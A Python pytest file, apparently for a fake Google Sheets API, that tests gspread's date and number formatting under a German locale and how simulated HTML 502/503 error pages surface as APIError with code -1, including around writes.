def test_a_date_format_shows_numbers_as_dates_and_plain_text_keeps_what_is_typed(api):
    api.create_spreadsheet(SID, sheets={"Registrations": [HEADER]}, locale="de_DE")
    api.hand_edit(SID, "Registrations", "B2", [["46357"], ["46357,5"]])
    ws = gspread_client_for(api.base_url).open_by_key(SID).sheet1
    ws.format("B2", {"numberFormat": {"type": "DATE"}})  # repeatCell, fields userEnteredFormat(numberFormat)
    api.set_number_format(SID, "Registrations", "B3", "DATE_TIME")
    assert [api.cell_kind(SID, "Registrations", a1) for a1 in ("B2", "B3")] == ["date", "date"]
    assert ws.get("B2:B3") == [["01.12.2026"], ["01.12.2026 12:00:00"]]  # the locale's date pattern
    assert ws.get("B2:B3", value_render_option=ValueRenderOption.unformatted) == [[46357], [46357.5]]
    api.set_number_format(SID, "Registrations", "C:C", "TEXT")
    api.hand_edit(SID, "Registrations", "C2", [["1.12.2026"]])
    assert api.cell_kind(SID, "Registrations", "C2") == "text"
    api.set_number_format(SID, "Registrations", "B2", "NUMBER")
    assert ws.get("B2") == [["46357"]]


# ---------------------------------------------------------------- Google's HTML error pages


@pytest.mark.parametrize("status", [502, 503])
def test_a_5xx_can_be_googles_html_page_which_gspread_raises_with_code_minus_1(ws, api, status):
    api.inject("values.get", ("html", status))
    with pytest.raises(APIError) as info:
        ws.get_all_values()
    error = info.value
    assert error.code == -1 and error.response.status_code == status  # gspread could not read a JSON error
    assert error.response.headers["Content-Type"] == "text/html; charset=UTF-8"
    assert f"<title>Error {status} (" in error.response.text
    assert len(ws.get_all_values()) == 3  # used up


@pytest.mark.parametrize(("fault", "rows"), [(("html", 502), 3), (("html-after-write", 503), 4)])
def test_an_html_5xx_after_a_write_may_hide_an_applied_write(ws, api, fault, rows):
    api.inject("values.append", fault)
    with pytest.raises(APIError) as info:
        ws.append_row(["c3"])
    assert info.value.code == -1
    assert len(api.values(SID, "Registrations")) == rows


def test_inject_rejects_an_html_page_google_does_not_send(api):
    with pytest.raises(ValueError, match="html"):
        api.inject("values.get", ("html", 418))
